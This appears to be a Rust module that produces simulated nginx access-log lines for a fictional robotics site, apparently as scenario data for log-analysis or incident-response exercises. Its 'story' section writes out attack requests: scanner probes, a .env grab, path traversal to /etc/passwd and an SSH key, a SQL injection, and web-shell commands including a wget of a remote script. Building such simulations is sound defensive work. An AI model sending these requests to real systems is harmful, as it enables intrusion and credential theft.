//! The web site's access log: nginx's `combined` format.

use super::Record;
use crate::{cast, text::Scene};

/// One kind of request: the request line, what follows it, and the agent.
#[derive(Debug)]
pub(crate) struct Request {
    request: &'static str,
    status: &'static str,
    bytes: &'static str,
    referrer: &'static str,
    agent: &'static str,
}

const TEMPLATE: &str =
    r#"<ip> - - [<clf>] "<request> HTTP/<http>" <status> <bytes> "<referrer>" "<agent>""#;

const CHROME: &str = concat!(
    "Mozilla/5.0 (<pick:Windows NT 10.0; Win64; x64|Macintosh; Intel Mac OS X 10_15_7|X11; Linux x86_64>) ",
    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/<pick:140|141|142>.0.0.0 Safari/537.36",
);
const PHONE: &str = concat!(
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 ",
    "(KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
);
const CRAWLER: &str = "Mozilla/5.0 (compatible; FieldCrawler/2.4; +https://crawler.example/about)";
const PAGE: &str = "https://www.larkspur.example/";

/// What visitors ask for, mistakes and crawlers included.
const ORDINARY: &[(u32, Request)] = &[
    (
        80,
        Request {
            request: "GET /",
            status: "200",
            bytes: "<below:9000>",
            referrer: "-",
            agent: CHROME,
        },
    ),
    (
        60,
        Request {
            request: "GET /robots/<pick:lr100|lr200|lr200-arm|lr300>",
            status: "200",
            bytes: "<below:40000>",
            referrer: PAGE,
            agent: CHROME,
        },
    ),
    (
        120,
        Request {
            request: "GET /assets/<pick:app|vendor|viewer>-<hex:8>.<pick:js|css>",
            status: "200",
            bytes: "<below:400000>",
            referrer: PAGE,
            agent: CHROME,
        },
    ),
    (
        60,
        Request {
            request: "GET /assets/img/<pick:arm|base|gripper|team>-<below:12>.webp",
            status: "<pick:200|200|304>",
            bytes: "<below:90000>",
            referrer: PAGE,
            agent: PHONE,
        },
    ),
    (
        50,
        Request {
            request: "GET /api/v1/robots/<below:600>/status?fields=battery,position&since=<below:90000>",
            status: "200",
            bytes: "<below:1800>",
            referrer: "https://fleet.larkspur.example/",
            agent: CHROME,
        },
    ),
    (
        20,
        Request {
            request: "POST /api/v1/robots/<below:600>/missions",
            status: "201",
            bytes: "<below:700>",
            referrer: "https://fleet.larkspur.example/",
            agent: CHROME,
        },
    ),
    (
        24,
        Request {
            request: "GET /support/search?q=<pick:select+gripper+size|union+joint+torque|battery+1+or+2|script+reset>",
            status: "200",
            bytes: "<below:12000>",
            referrer: "https://www.larkspur.example/support",
            agent: CHROME,
        },
    ),
    (
        14,
        Request {
            request: "POST /account/avatar",
            status: "302",
            bytes: "0",
            referrer: "https://www.larkspur.example/account",
            agent: CHROME,
        },
    ),
    (
        20,
        Request {
            request: "GET /<pick:favicon.ico|old-catalog.pdf|apple-touch-icon.png>",
            status: "404",
            bytes: "153",
            referrer: "-",
            agent: PHONE,
        },
    ),
    (
        16,
        Request {
            request: "GET /<pick:robots.txt|sitemap.xml|news/|news/page/2>",
            status: "200",
            bytes: "<below:5000>",
            referrer: "-",
            agent: CRAWLER,
        },
    ),
    (
        10,
        Request {
            request: "GET /healthz",
            status: "200",
            bytes: "2",
            referrer: "-",
            agent: "uptime-probe/3.1",
        },
    ),
    (
        3,
        Request {
            request: "GET /api/v1/robots/<below:600>/status",
            status: "502",
            bytes: "157",
            referrer: "https://fleet.larkspur.example/",
            agent: CHROME,
        },
    ),
];

/// The requests of the story.
pub(crate) mod story {
    use super::{CHROME, Request};

    const SCAN: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:<below:7000>)";

    pub(crate) const PROBE: Request = Request {
        request: "GET /<pick:phpinfo.php|server-status|wp-login.php|backup.zip|cgi-bin/test.cgi|admin/config.php>",
        status: "404",
        bytes: "153",
        referrer: "-",
        agent: SCAN,
    };
    pub(crate) const SECRETS: Request =
        Request { request: "GET /.env", status: "200", bytes: "412", referrer: "-", agent: SCAN };
    pub(crate) const TRAVERSAL: Request = Request {
        request: "GET /download?file=<pick:../../../../etc/passwd|..%2f..%2f..%2f..%2fetc%2fpasswd|../../../../var/www/.ssh/id_rsa>",
        status: "<pick:200|403>",
        bytes: "1874",
        referrer: "-",
        agent: "python-requests/2.32.5",
    };
    pub(crate) const INJECTION: Request = Request {
        request: "GET /support/search?q=1%27%20UNION%20SELECT%20login,hash%20FROM%20accounts--%20",
        status: "500",
        bytes: "177",
        referrer: "-",
        agent: "sqlmap/1.9.9#stable (https://sqlmap.org)",
    };
    pub(crate) const UPLOAD: Request = Request {
        request: "POST /account/avatar",
        status: "302",
        bytes: "0",
        referrer: "-",
        agent: CHROME,
    };
    pub(crate) const SHELL: Request = Request {
        request: "GET /uploads/avatars/me.php?cmd=<pick:id|whoami|cat+/etc/passwd|uname+-a|wget+http://203.0.113.77/k.sh>",
        status: "200",
        bytes: "<below:900>",
        referrer: "-",
        agent: CHROME,
    };
}

/// Picks a request of an ordinary day.
pub(crate) fn ordinary(scene: &mut Scene<'_>) -> Record {
    scene.address = cast::visitor(scene.random);
    Record::Web(scene.random.pick_weighted(ORDINARY))
}

/// Writes one line.
pub(crate) fn write(request: &'static Request, scene: &mut Scene<'_>, out: &mut String) {
    let values = [
        ("request", request.request),
        ("http", if request.referrer == "-" { "1.1" } else { "2.0" }),
        ("status", request.status),
        ("bytes", request.bytes),
        ("referrer", request.referrer),
        ("agent", request.agent),
    ];
    scene.write(TEMPLATE, &values, out);
}
